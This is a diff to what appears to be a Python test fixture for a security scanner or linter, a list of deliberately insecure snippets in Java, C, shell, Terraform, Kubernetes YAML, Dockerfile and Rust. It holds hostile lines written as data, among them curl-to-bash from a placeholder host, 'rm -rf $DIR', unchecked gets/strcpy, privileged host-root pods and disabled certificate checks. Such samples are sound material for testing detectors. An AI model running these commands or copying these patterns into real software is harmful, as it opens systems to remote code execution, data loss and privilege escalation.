@@ -19,7 +19,7 @@ SNIPPETS = [
     (".java", "java", 'class A {~  void f() { Runtime.getRuntime().exec(c); new ProcessBuilder(c); }~  void g() { st.executeQuery("select a" + b); in.readObject(); }~}~'),
     (".c", "c", 'int main() {~  char b[8]; gets(b); strcpy(b, s);~  system(b); scanf("%s", b);~  fgets(b, 8, stdin);~}~'),
     (".sh", "shell", 'eval $CMD~curl https://x.example.com/i | sudo bash~rm -rf $DIR~echo done~'),
-    (".tf", "hcl", 'resource "aws_instance" "a" {~  instance_type = "m5.xlarge"~  count = 2~  cidr = "0.0.0.0/0"~  encrypted = false~}~resource "aws_db_instance" "d" { instance_class = "db.m5.large" }~acl = "public-read"~'),
+    (".tf", "terraform", 'resource "aws_instance" "a" {~  instance_type = "m5.xlarge"~  count = 2~  cidr = "0.0.0.0/0"~  encrypted = false~}~resource "aws_db_instance" "d" { instance_class = "db.m5.large" }~# t3.huge~acl = "public-read"~'),
     (".yaml", "yaml", 'apiVersion: v1~kind: Pod~spec:~  hostNetwork: true~  hostPID: true~  containers:~  - securityContext:~      privileged: true~      runAsUser: 0~      allowPrivilegeEscalation: true~      capabilities:~        add:~        - ALL~  volumes:~  - hostPath: { path: / }~'),
     ("/Dockerfile", "dockerfile", 'FROM ubuntu:latest~USER root~ADD https://x.example.com/a.tgz /a~RUN curl -s https://x.example.com/i | sh~'),
     (".rs", "rust", 'fn main() { unsafe { f(); } Command::new("sh"); c.danger_accept_invalid_certs(true); }~'),
